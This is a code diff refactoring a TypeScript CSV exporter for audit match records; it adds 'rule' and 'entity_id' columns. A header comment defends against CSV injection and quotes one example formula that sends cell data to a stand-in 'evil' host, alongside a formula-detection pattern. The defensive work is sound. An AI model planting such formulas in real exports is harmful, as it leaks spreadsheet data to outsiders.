@@ -2,9 +2,9 @@
 // could read as a formula (=, +, -, @, or a tab / carriage return / line feed first) gets a
 // leading apostrophe: list data and page text are not ours, and a name like
 // `=HYPERLINK("http://evil/?"&A1)` must arrive as text (OWASP "CSV injection").
-import { standingDate, standingOf } from '../../../core/entry-wording';
+import type { MatchRecord } from '../../../core/match-record';
 import type { Criterion, Evidence } from '../../../core/types';
-import type { AuditEntity, AuditList, AuditMatch, BulkAuditRecord, PageAuditRecord } from './types';
+import type { AuditEntity, AuditList, BulkAuditRecord, PageAuditRecord } from './types';
 
 const FORMULA_START = /^[=+\-@\t\r\n]/;
 // Leading spaces do not stop every spreadsheet from evaluating "  =1+1".
@@ -71,47 +71,76 @@ function listsCheckedSha256(lists: readonly AuditList[]): string {
     .join('; ');
 }
 
-interface EntryCells {
+/**
+ * The cells of one match record and one of its list entries: the record's fields under the
+ * CSV's column names, the same for bulk and page exports. The record's `field` is the bulk
+ * row's or the page match's `field` column.
+ */
+interface RecordCells {
+  match_level: string;
+  matched_text: string;
+  match_type: string;
+  entity: string;
+  matched_name: string;
+  evidence: string;
+  rule: string;
+  entity_id: string;
   list_id: string;
-  list_version: string;
-  list_sha256: string;
   list_entry: string;
   entry_status: string;
-  criteria: string;
   list_kind: string;
   entry_standing: string;
   entry_standing_date: string;
+  list_version: string;
+  list_sha256: string;
+  criteria: string;
 }
 
-const NO_ENTRY: EntryCells = {
+const NO_MATCH: RecordCells = {
+  match_level: '',
+  matched_text: '',
+  match_type: '',
+  entity: '',
+  matched_name: '',
+  evidence: '',
+  rule: '',
+  entity_id: '',
   list_id: '',
-  list_version: '',
-  list_sha256: '',
   list_entry: '',
   entry_status: '',
-  criteria: '',
   list_kind: '',
   entry_standing: '',
   entry_standing_date: '',
+  list_version: '',
+  list_sha256: '',
+  criteria: '',
 };
 
-/** One set of list cells per list entry the match names (long format: filterable by list). */
-function entryCells(m: AuditMatch, entities: Map<string, AuditEntity>, lists: Map<string, AuditList>): EntryCells[] {
+/** One set of cells per list entry the match names (long format: filterable by list). */
+function recordCells(m: MatchRecord, entities: Map<string, AuditEntity>, lists: Map<string, AuditList>): RecordCells[] {
   const entity = entities.get(m.entity);
   return m.lists.map((l) => {
     const entry = entity?.entries.find((e) => e.list === l.list && e.entry === l.entry);
     const list = lists.get(l.list);
     return {
+      match_level: m.level,
+      matched_text: m.text,
+      match_type: m.matchType,
+      entity: m.entityName,
+      matched_name: m.name,
+      evidence: evidenceText(m.evidence),
+      rule: m.rule,
+      entity_id: m.entity,
       list_id: l.list,
-      list_version: list?.version ?? '',
-      list_sha256: list?.sha256 ?? '',
       list_entry: l.entry,
       entry_status: l.status,
-      criteria: entry ? criteriaText(entry.criteria) : '',
-      list_kind: list?.kind ?? '',
+      list_kind: l.kind ?? '',
       // Removed, revoked and exclusion-revoked entries are history: their standing says which.
-      entry_standing: standingOf(entry ?? l),
-      entry_standing_date: entry ? (standingDate(entry) ?? '') : '',
+      entry_standing: l.standing,
+      entry_standing_date: l.standingOn ?? '',
+      list_version: list?.version ?? '',
+      list_sha256: list?.sha256 ?? '',
+      criteria: entry ? criteriaText(entry.criteria) : '',
     };
   });
 }
@@ -145,6 +174,8 @@ export const BULK_CSV_COLUMNS = [
   'entry_standing',
   'entry_standing_date',
   'lists_checked_sha256',
+  'rule',
+  'entity_id',
 ] as const;
 
 type BulkLine = Record<(typeof BULK_CSV_COLUMNS)[number], string | number>;
@@ -170,36 +201,12 @@ export function bulkCsv(record: BulkAuditRecord): string {
       .map((g) => (g.notEntityName ? `${g.text}: not ${g.notEntityName}${g.reason ? ` (${g.reason})` : ''}` : g.text))
       .join('; ');
     if (r.matches.length === 0) {
-      lines.push({
-        ...head,
-        match_level: '',
-        matched_text: '',
-        match_type: '',
-        entity: '',
-        matched_name: '',
-        ...NO_ENTRY,
-        evidence: '',
-        lookalike,
-        dismissed: '',
-        ...tail,
-      });
+      lines.push({ ...head, ...NO_MATCH, lookalike, dismissed: '', ...tail });
       continue;
     }
     for (const m of r.matches) {
-      for (const cells of entryCells(m, entities, lists)) {
-        lines.push({
-          ...head,
-          match_level: m.level,
-          matched_text: m.text,
-          match_type: m.matchType,
-          entity: m.entityName,
-          matched_name: m.name,
-          ...cells,
-          evidence: evidenceText(m.evidence),
-          lookalike,
-          dismissed: m.dismissed?.reason ?? '',
-          ...tail,
-        });
+      for (const cells of recordCells(m, entities, lists)) {
+        lines.push({ ...head, ...cells, lookalike, dismissed: m.dismissed?.reason ?? '', ...tail });
       }
     }
   }
@@ -233,6 +240,8 @@ export const PAGE_CSV_COLUMNS = [
   'entry_standing',
   'entry_standing_date',
   'lists_checked_sha256',
+  'rule',
+  'entity_id',
 ] as const;
 
 type PageLine = Record<(typeof PAGE_CSV_COLUMNS)[number], string | number>;
@@ -251,19 +260,14 @@ export function pageCsv(record: PageAuditRecord): string {
   const lines: PageLine[] = [];
   for (const f of record.findings) {
     for (const m of f.matches) {
-      for (const cells of entryCells(m, entities, lists)) {
+      for (const cells of recordCells(m, entities, lists)) {
         lines.push({
           section: f.section,
-          entity: f.entityName,
-          matched_text: m.text,
-          occurrences: m.occurrences,
-          match_level: m.level,
-          match_type: m.matchType,
-          matched_name: m.name,
-          field: m.field ?? '',
-          evidence: evidenceText(m.evidence),
-          context: m.context,
           ...cells,
+          entity: f.entityName,
+          occurrences: m.occurrences,
+          field: m.field ?? '',
+          context: m.context,
           dismissed: m.dismissed?.reason ?? '',
           ...tail,
         });
@@ -273,16 +277,13 @@ export function pageCsv(record: PageAuditRecord): string {
   for (const g of record.lookalikes) {
     lines.push({
       section: 'lookalike',
+      ...NO_MATCH,
       entity: g.notEntityName ? `not ${g.notEntityName}` : '',
       matched_text: g.text,
       occurrences: '',
-      match_level: '',
-      match_type: '',
-      matched_name: '',
       field: '',
       evidence: g.reason ?? '',
       context: '',
-      ...NO_ENTRY,
       dismissed: '',
       ...tail,
     });
